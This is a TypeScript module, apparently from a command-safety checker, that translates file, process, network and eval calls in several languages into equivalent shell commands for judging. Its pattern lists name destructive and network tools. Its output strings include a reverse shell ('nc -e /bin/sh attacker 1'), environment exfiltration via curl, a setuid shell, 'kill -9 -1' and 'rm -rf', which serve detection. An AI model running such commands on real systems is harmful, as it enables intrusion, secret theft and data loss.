// Code of other languages on the command line, told in shell: each call that deletes, writes, starts or sends becomes
// the command that does the same, and is judged as such. What cannot be read becomes a hole.
import type { Language } from "./inner.ts";
import { hole } from "./verdict.ts";

const quoted = `(?:[rbfu]{0,2})("(?:[^"\\\\]|\\\\.)*"|'(?:[^'\\\\]|\\\\.)*'|\`[^\`]*\`)`;

interface Shape {
  readonly in?: RegExp;
  /** The call; what stands behind its bracket is the argument. */
  readonly call: RegExp;
  /**
   * What it comes to; `$1` is the argument, quoted for the shell, `$2` the first two, `$!` the argument as a text of the
   * shell itself.
   */
  readonly shell: string;
}

const shapes: readonly Shape[] = [
  {
    call: /\b(?:rmtree|remove_tree|removedirs|rm_rf|rm_r|rimraf|remove_entry_secure|rmdirSync|rmSync|removeSync|emptyDirSync|deltree|fs\.rm|fs\.promises\.rm|fsp?\.rmdir|Deno\.remove)\s*\(?\s*/g,
    shell: "rm -rf $1",
  },
  {
    call: /\b(?:os\.remove|os\.unlink|os\.rmdir|unlinkSync|unlink|File\.delete|FileUtils\.rm|File\.unlink)\s*\(?\s*(?:glob\s*\(?\s*|<)?/g,
    shell: "rm $1",
  },
  { in: /other|ruby/, call: /(?<![\w.])sh\s*\(?\s*(?=["'])/g, shell: "$!" },
  { in: /other/, call: /\bunlink\s*\(\s*/g, shell: "rm -rf $1" },
  { in: /python/, call: /\.(?:unlink|rmdir)\(/g, shell: "rm $1" },
  {
    in: /python/,
    call: /(?<![\w.])(?:call|check_output|check_call|Popen|system|popen|getoutput)\s*\(\s*/g,
    shell: "$!",
  },
  { in: /python/, call: /\b[A-Z]\w*\(\s*(?=["'][^)]*\)\s*\.(?:write_|touch|open\(["'][wax]))/g, shell: "echo x > $1" },
  { in: /node/, call: /\$(?=`)/g, shell: "$!" },
  { in: /node/, call: /(?<![\w.$])(?:rm|rmdir|unlink)\s*\(\s*/g, shell: "rm -rf $1" },
  { in: /node/, call: /\bprocess\.binding\s*\(\s*/g, shell: `eval "${hole}"` },
  { in: /php/, call: /\$\w+\s*\((?=\s*[\w"'$])/g, shell: `eval "${hole}"` },
  { in: /php/, call: /array_map\(\s*["'](?:unlink|rmdir)["']\s*,\s*(?:glob\()?/g, shell: "rm -rf $1" },
  { in: /perl/, call: /\bopen\s*\(?[^;]*?,\s*(?=["']\s*\+?>)/g, shell: "echo x > $1" },
  { in: /perl/, call: /\bopen\s*\(?[^;]*?,\s*(?=["']\s*\|)/g, shell: "$!" },
  {
    call: /\b(?:os\.system|os\.popen|subprocess\.\w+|commands\.getoutput|execSync|spawnSync|execFileSync|execFile|child_process\w*\W{0,4}\.?(?:exec|spawn)\w*|shell_exec|passthru|proc_open|pcntl_exec|popen|IO\.popen|Open3\.\w+|pty\.spawn|os\.exec\w+|os\.spawn\w+|os\.posix_spawn|Kernel\.(?:system|exec|spawn)|Bun\.spawn\w*|Deno\.(?:run|Command)|io\.popen|os\.execute|getRuntime\(\)\.exec|shell-command|system2?)\s*\(?\s*/g,
    shell: "$!",
  },
  { in: /node/, call: /(?:\brequire\(\s*['"](?:node:)?child_process['"]\s*\)|\bcp)\s*\.\s*\w+\s*\(\s*/g, shell: "$!" },
  { in: /perl|ruby|php/, call: /(?<![\w.$>:-])(?:exec|system|spawn)\b\s*\(?\s*/g, shell: "$!" },
  { in: /perl|ruby|php/, call: /(?:\bqx|%x)\s*[{([/|<!](?=[^\])}/|>!]*)/g, shell: "$!" },
  { in: /perl|ruby|php/, call: /(?=`[^`]+`)/g, shell: "$!" },
  { in: /awk/, call: /\bsystem\s*\(\s*/g, shell: "$!" },
  { in: /awk/, call: /(?=("(?:[^"\\]|\\.)*")\s*\|\s*getline)/g, shell: "$!" },
  { in: /awk/, call: /\|\s*&?\s*(?="(?:[^"]*\/)?(?:ba|z|da|k)?sh\b)/g, shell: `eval "${hole}"` },
  { in: /awk/, call: /\|\s*&?\s*(?=")/g, shell: "$!" },
  { in: /awk/, call: /print[^;}|]*>>?\s*(?=")/g, shell: "echo x > $1" },
  {
    call: /\b(?:writeFileSync|writeFile|appendFileSync|createWriteStream|file_put_contents|File\.write|IO\.write|truncateSync|os\.truncate|truncate)\s*\(?\s*/g,
    shell: "echo x > $1",
  },
  {
    call: /\b(?:open|fopen|openSync|File\.open|File\.new)\s*\(\s*(?=[^,)]+,\s*(?:mode\s*=\s*)?["'][rb]*[wax+])/g,
    shell: "echo x > $1",
  },
  { in: /perl/, call: /\bopen\s*\(?[^;]*["']>>?["']?\s*,?\s*(?=["'])/g, shell: "echo x > $1" },
  { call: /\b(?:os\.chmod|chmodSync|FileUtils\.chmod(?:_R)?)\s*\(?\s*/g, shell: "chmod 777 $1" },
  {
    call: /\b(?:os\.rename|os\.replace|shutil\.move|renameSync|fs\.rename|FileUtils\.mv|File\.rename)\s*\(\s*/g,
    shell: "mv $2",
  },
  {
    call: /\b(?:shutil\.copy(?:2|file|tree)?|os\.(?:link|symlink)|(?:copyFile|cp|symlink|link)Sync|fs\.(?:copyFile|cp)|FileUtils\.(?:cp|cp_r|copy|install)|IO\.copy_stream|File\.(?:link|symlink)|copytree)\s*\(\s*/g,
    shell: "cp $2",
  },
  { call: /\bos\.kill\s*\(\s*(?=-1)/g, shell: "kill -9 -1" },
  { call: /\bprocess\.kill\s*\(\s*(?=-1)/g, shell: "kill -9 -1" },
];

/** Shell lines that do what the code does, as far as it reaches out of itself. */
export function toldInShell(language: Language, text: string): string[] {
  const code = text.replace(/\\\n/g, "");
  const lines = shapes
    .filter((shape) => shape.in === undefined || shape.in.test(language))
    .flatMap((shape) =>
      Array.from(code.matchAll(shape.call), (found) =>
        told(shape, code.slice(found.index + found[0].length), found[0], code),
      ),
    );
  return [...new Set([...lines, ...spelled(language, code), ...wholes(language, code)])];
}

const harmful =
  /^\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\/\S*\/)?(rm|dd|mkfs[\w.]*|shred|chmod|chown|curl|wget|nc|ncat|bash|sh|mv|shutdown|reboot|poweroff|kill|killall|pkill|crontab|useradd|usermod|iptables|find|systemctl|tee|wipefs|git|docker|kubectl)$/;

/** Commands spelled out in literals, however they come to be run: a text, or a list of words. */
function spelled(language: Language, code: string): string[] {
  if (language === "compiled" || prints.test(code)) return [];
  const texts = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
  const whole = texts.filter((text) => harmful.test(/^\s*(?:sudo\s+)?\S+(?=\s)/.exec(text)?.[0] ?? ""));
  const lists = Array.from(code.matchAll(/[[(]\s*((?:["'][^"']*["']\s*,\s*)+["'][^"']*["'])\s*[\])]/g), (found) =>
    Array.from((found[1] ?? "").matchAll(new RegExp(quoted, "g")), (item) => inside(item[1] ?? "")),
  ).filter((words) => harmful.test(words[0] ?? ""));
  return [...whole, ...lists.map((words) => words.map(shellQuoted).join(" "))];
}

const prints = /^\s*(?:print|puts|echo|console\.log|printf)\s*\(?\s*(?:"[^"]*"|'[^']*')\s*\)?\s*;?\s*$/;

function told(shape: Shape, behind: string, call: string, code: string): string {
  const list = /^[([]?\s*\[([^\]]*)\]/.exec(behind)?.[1];
  const pieces = Array.from((list ?? firstArgument(behind, call)).matchAll(new RegExp(quoted, "g")), (found) =>
    inside(found[1] ?? ""),
  );
  const home = homeIn(behind);
  if (shape.shell.endsWith("$2")) return shape.shell.replace("$2", () => twoPlaces(behind));
  if (shape.shell === "$!") {
    const spoken = list === undefined ? spokenToShell(shape, behind, call, pieces[0]) : inWords(pieces);
    return home === undefined ? spoken : `${spoken} ${home}`;
  }
  if (home !== undefined && !shape.shell.startsWith("$"))
    return shape.shell
      .replace(/^rm /, "rm -rf ")
      .replace("$1", () => shellQuoted(home).replace(/^'~/, "~'"))
      .replace("''", "");
  const argument = pieces[0] === undefined ? placesIn(code) : pieces.join("").replace(/^\s*\+?[<>|]{1,2}\s*/, "");
  const several = /^rm /.test(shape.shell) ? literalsOf(list ?? "", behind) : [];
  if (several.length > 1) return shape.shell.replace("$1", () => several.map(shellQuoted).join(" "));
  // What is not named may be anything below the folders that are.
  const shell = pieces[0] === undefined ? shape.shell.replace(/^rm /, "rm -rf ") : shape.shell;
  return shell.replace("$1", () => (argument.includes("*") ? argument : shellQuoted(argument)));
}

/** The literals that the call's arguments are, where they are nothing else. */
function literalsOf(list: string, behind: string): readonly string[] {
  const text = list === "" ? (new RegExp(`^[\\s(]*${quoted}(?:\\s*,\\s*${quoted})+`).exec(behind)?.[0] ?? "") : list;
  return Array.from(text.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? "")).filter((item) =>
    /[/.*~]/.test(item),
  );
}

const pair = new RegExp(`^[\\s(]*(?:\\w+\\s*=\\s*)?${quoted}\\s*,\\s*(?:\\w+\\s*=\\s*)?${quoted}`);

/** From where to where. A place that is not named may be any. */
function twoPlaces(behind: string): string {
  const [, from, to] = pair.exec(behind) ?? [];
  if (from !== undefined && to !== undefined) return `${shellQuoted(inside(from))} ${shellQuoted(inside(to))}`;
  const first = new RegExp(`^[\\s(]*${quoted}`).exec(behind);
  const home = homeIn(behind.slice(first?.[0].length ?? 0));
  return `${first === null ? hole : shellQuoted(inside(first[1] ?? ""))} ${home ?? "/tmp/x"}`;
}

const inWords = (pieces: readonly string[]): string => pieces.map(shellQuoted).join(" ") || `eval "$(${hole})"`;
const decoded = /^[\s(]*[\w.:]*(decode|b64|unpack|fromhex|rot13|reverse|chr|gunzip|inflate|atob|join)\w*\s*\(/i;
const joinedOn = new RegExp(`^[\\s(]*${quoted}\\s*[+.%]`);
const turnedInto = new RegExp(
  `^[\\s(]*${quoted}\\s*\\.\\s*(unpack1?|decode\\w*|reverse|tr|pack|gsub|sub|replace\\w*|swapcase|split|scan|succ|unhexlify|translate)\\b`,
);
/** Awk joins texts without a sign. */
const joinedBeside = new RegExp(`^[\\s(]*${quoted}\\s*[\\w$(]`);

/** A text for the shell, where it can be read: joined with something unknown, it may delete anything. */
function spokenToShell(shape: Shape, behind: string, call: string, piece: string | undefined): string {
  if (decoded.test(behind) || turnedInto.test(behind)) return `eval "${hole}"`;
  if (piece === undefined) return rawShell(behind, call) ?? `eval "${hole}"`;
  if (joinedOn.test(behind)) return `${piece}${hole}`;
  if (shape.in?.test("awk") && joinedBeside.test(behind)) return `${piece.replace(/^\s*rm (?!-)/, "rm -rf ")}${hole}`;
  return piece.replace(/^\s*\||\|\s*$/g, "");
}

/** A call that tells the home stands in the argument: the path under it. */
function homeIn(behind: string): string | undefined {
  const argument = behind.split(/[;\n]/)[0]?.slice(0, 120) ?? "";
  const call =
    /homedir\(\)|Path\.home\(\)|Dir\.home|expanduser\(\s*["']~\/?["']\s*\)|(?:env(?:iron)?|ENV|_SERVER)(?:\.get\(|[.[{])\s*["']?HOME\b["']?[\])}]?|getenv\(\s*["']HOME["']\s*\)|\$HOME\b/.exec(
      argument,
    );
  if (call === null) return undefined;
  const below = Array.from(
    argument
      .slice(call.index + call[0].length)
      .split(/[{}]/)[0]
      ?.matchAll(new RegExp(quoted, "g")) ?? [],
    (found) => inside(found[1] ?? "").replace(/^\/|\/$/g, ""),
  ).filter((part) => part !== "" && !/^(w|r|a|wb|utf-?8|\*)$/.test(part));
  return ["~", ...below].join("/");
}

/** Folders that the code names, with the pattern it looks for in them. */
function placesIn(code: string): string {
  const literals = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
  const folder = literals.find((item) => /^([~/]|\.\.?\/?$)/.test(item));
  const pattern = literals.find((item) => /^\*+(\/\*)*\.\w+$/.test(item));
  if (folder === undefined) return hole;
  return pattern === undefined ? folder : `${folder.replace(/\/$/, "")}/${pattern}`;
}

/** `qx{..}` and `%x(..)`. */
function rawShell(behind: string, call: string): string | undefined {
  return /(?:qx|%x)/.test(call) ? /^[^\])}/|>!]*/.exec(behind)?.[0] : undefined;
}

/** Up to the comma or bracket that ends it; for programs that take a list, the whole call. */
function firstArgument(behind: string, call: string): string {
  const all = /exec[lv]|spawn|execFile|system\s*\(?\s*$|exec\s*\(?\s*$/.test(call);
  const literal = new RegExp(`^[\\s(]*${quoted}(\\s*,\\s*\\[[^\\]]*\\]|(?:\\s*,\\s*${quoted})*)`, "s").exec(behind);
  if (literal === null) {
    const path =
      /^[^;)]*expanduser\(\s*(["'][^"']*["'])/.exec(behind)?.[1] ??
      /^(?:\w+\.)*(?:str|String|Path|normalize|resolve|abspath|realpath|join)\(\s*(["'][^"']*["'])\s*\)/.exec(
        behind,
      )?.[1];
    return path ?? "";
  }
  if (!all) return literal[1] ?? "";
  const words = Array.from(literal[0].matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
  // What is no literal may be anything.
  const more = /^\s*,\s*[$@\w]/.test(behind.slice(literal[0].length)) ? [hole] : [];
  return words.length < 2 ? (literal[1] ?? "") : JSON.stringify([...words.map(shellWord), ...more].join(" "));
}

function inside(literal: string): string {
  return literal
    .slice(1, -1)
    .replace(/\\x([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
    .replace(/\\(["'\\$])/g, "$1")
    .replace(/#\{[^}]*\}/g, hole);
}

/** As it is where the shell would take it so. */
function shellWord(text: string): string {
  return /^[\w./~=:@%+,*?-]+$/.test(text) ? text : shellQuoted(text);
}

function shellQuoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

const network =
  /\bmail\s*\(\s*["']|\b(requests\.|file_get_contents\(\s*["']https?:|URI\.(?:open|parse)|URI\(|\bopen\(\s*["']https?:|net\.Dial|TcpStream|urllib|urlopen|http\.client|httpx|aiohttp|socket|smtplib|ftplib|paramiko|fetch\(|https?\.(get|request)|net\.(connect|createConnection|Socket)|axios|Net::HTTP|TCPSocket|open-uri|IO::Socket|LWP|Simple; .*get|IO::All|Mojo|fsockopen|curl_exec|XMLHttpRequest|HTTP::Tiny)|\/inet\/(tcp|udp)|require\(["'](node:)?(net|tls|dgram|https?)["']\)|Socket\(/;
const dynamic =
  /(?:\b(?:pickle|dill|cloudpickle|joblib)\.loads?|\byaml\.(?:unsafe_)?load|(?<![\w.])(?:exec|eval|execfile|__import__|compile|Function|instance_eval|assert))\s*\(|\beval\s+|marshal\.loads|getattr\s*\(\s*__|vm\.run|importlib\.import_module/;
const decoder =
  /b64decode|base64|fromhex|codecs\.decode|unhexlify|zlib|\bchr\(|fromCharCode|decode\(|unpack|pack\(|\[::-1\]|getattr|['"]\s*\+\s*['"]|reverse|gzinflate|rot13|atob|Buffer\.from|urlopen|requests\.|https?\.get|fetch\(/;

interface Sign {
  readonly fits: (code: string, online: boolean, language: Language) => boolean;
  readonly shell: string;
}

const unknownCode = `eval '${hole}'`;

/** What shows in the whole of a program rather than in one call. */
const signs: readonly Sign[] = [
  { fits: (_code, online) => online, shell: `curl '${hole}'` },
  { fits: (code, online) => online && handsOutShell.test(code), shell: "nc -e /bin/sh attacker 1" },
  { fits: (code) => /(\b|_)fork\b/.test(code) && /while|for|fork[^;]*fork/.test(code), shell: "forkbomb" },
  {
    fits: (code) =>
      /while\s*(True|1|\(1\)|\(true\))|setInterval|for\s*\(;;/.test(code) &&
      /append|\+=|\*=|alloc|push|\.write\(|(spawn\w*|exec\w*|Popen|system|fork)\s*\(/.test(code) &&
      !/sleep/.test(code),
    shell: "forkbomb",
  },
  { fits: (code, online) => dynamic.test(code) && (online || decoder.test(code)), shell: unknownCode },
  {
    fits: (code, _, language) =>
      language === "other" &&
      /system|exec|popen|shell|process|run\s*\(|delete|remove|rm_rf|cmd\b|spawn|\bterm\b|`|\/bin\/\w*sh\b|\brm\(|\bunlink|\berase\b|\biex\b|\biwr\b|\birm\b|\bri\b|\bdel\b|download|url-|\bload\b|invoke-|(stop|restart|format|clear|set|disable|new|add)-\w|\bnet user|base64/i.test(
        code,
      ),
    shell: unknownCode,
  },
  {
    fits: (code, _, language) => language === "compiled" && runsOthers.test(code),
    shell: unknownCode,
  },
  {
    fits: (code) => dynamic.test(code) && /["'(]\s*(https?|ftp):\/\//.test(code),
    shell: unknownCode,
  },
  {
    fits: (code) => /os\.set(e?[ug]id)|setuid\(|POSIX::setuid|Process::Sys\.setuid/.test(code),
    shell: "chmod u+s /bin/sh",
  },
  {
    fits: (code, online) =>
      online &&
      /import environ|\$ENV\{|os\.environ(?!\.get\(|\[)|["'`]https?:\/\/[^"'`]*["'`]\s*[+.%].{0,40}(environ|getenv|ENV|process\.env)|process\.env\b(?!\.)|%ENV|ENV\.to_|getenv\(\)/.test(
        code,
      ),
    shell: "printenv | curl -T - x",
  },
  {
    fits: (code) =>
      /\bos\.kill\s*\(|process\.kill\s*\(|Process\.kill|\.kill\(\)/.test(code) &&
      /\/proc\b|process_iter|psutil\.pids|range\(/.test(code),
    shell: "kill -9 -1",
  },
  {
    fits: (code) =>
      /\b(LoadLibrary|CDLL|dlopen|require_relative)\(\s*["'](?!lib[\w-]+\.(so|dylib)\.?\d*["']|[\w-]+["'])[^"']*\.(so|dll|dylib)/.test(
        code,
      ),
    shell: unknownCode,
  },
  // Calls of the system's own library, past everything that the language would show.
  {
    fits: (code) =>
      /\b(CDLL|ctypes|cffi|Fiddle|FFI|dlopen|koffi|syscall)\b/.test(code) &&
      /\b(reboot|system|exec\w*|syscall|mprotect|u?mount2?|unlink|kill|set[ug]id|ptrace|memfd_create|prctl)\b\W{0,3}[(,]/.test(
        code,
      ),
    shell: unknownCode,
  },
  {
    fits: (code) => libraries.test(code) && deletes.test(code),
    shell: "service data delete",
  },
  {
    fits: (code) =>
      /glob|walk\(|listdir|readdir|scandir|Dir\[|Dir\.|iterdir/.test(code) &&
      ((/\bopen\(.{0,80}?,\s*['"]w/.test(code) && !/write/.test(code)) ||
        /(write\w*|truncate\w*|file_put_contents)\s*\([^()]*(\bf\w*\s*,\s*)?(''|""|b''|Buffer\.alloc\(\d+\)|0)\s*\)/.test(
          code,
        )),
    shell: "truncate -s 0 *",
  },
  { fits: (code) => /dropDatabase|DROP\s+(TABLE|DATABASE)|flushall/i.test(code), shell: "psql -c 'DROP DATABASE x'" },
];

/** Libraries of services that keep data or machines, and what they call to be rid of it. */
const libraries =
  /\b(boto3?|docker|dockerode|kubernetes|google\.cloud|googleapiclient|azure|digitalocean|hcloud|aws-sdk|@aws-sdk|pymongo|mongodb|mongoose|redis|ioredis|psycopg\d?|sqlalchemy|mysql\w*|elasticsearch|opensearchpy|cassandra|PyGithub|github|octokit|libcloud|pyVim|proxmoxer|paramiko|pika|kafka|minio|firebase\w*|supabase|stripe|cloudflare|heroku\w*|linode\w*|openstack|libvirt)\b/i;
const deletes =
  /\.(delete(?!_?one\b|d)\w*|destroy\w*|terminate\w*|drop\w*|purge\w*|prune\w*|flush(all|db)\w*|truncate\w*|undefine\w*|remove)\s*\(|Delete\w+Command|["'](?:DROP|TRUNCATE|DELETE FROM)\s/i;

const runsOthers =
  /\bsystem\s*\(|\bexec[lv]p?e?\s*\(|exec\.Command|syscall\.Exec|Command::new|ProcessBuilder|getRuntime|\bunlink\s*\(|\bremove\s*\(|remove_dir_all|os\.Remove|\bfork\s*\(|\bpopen\s*\(|setuid\s*\(|Process\(\)|\breboot\s*\(|\/dev\/(sd|mem|nvme)/;
const handsOutShell =
  /dup2|\bfdopen|pty\.spawn|\/inet\/(tcp|udp)|STDIN,\s*">&|(?=.*(["']net["']|net\.|Socket|fsockopen))(?=.*(spawn|exec|\/bin\/))/s;

function wholes(language: Language, code: string): string[] {
  const literals = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
  const paths = literals.filter((item) => /^[~/.][^\s]*$|^\.env|^id_/.test(item) && item.length > 1);
  const reads = /open|read|load|File|Path|cat|slurp|<|send|post|copy/i.test(code);
  const online = network.test(code);
  const sent = online && sendsOut(code) ? paths.map((path) => `curl '${hole}' -T ${shellQuoted(path)}`) : [];
  const told = signs.filter((sign) => sign.fits(code, online, language)).map((sign) => sign.shell);
  return [...(reads ? paths.map((path) => `cat ${shellQuoted(path)}`) : []), ...sent, ...told];
}

function sendsOut(code: string): boolean {
  return (
    /["'`](?:https?|ftp):\/\/[^"'`]*(?:\$?\{|["'`]\s*[+.%])|\.post\w*\(|\.pipe\(|\bmail\s*\(|\.put\(|sendall|\.send\(|data\s*=|method:\s*['"]POST|POST|sendmail|storbinary/.test(
      code,
    ) && /open\(|readFile|File\.read|file_get_contents|createReadStream|read\(\)|expanduser/.test(code)
  );
}
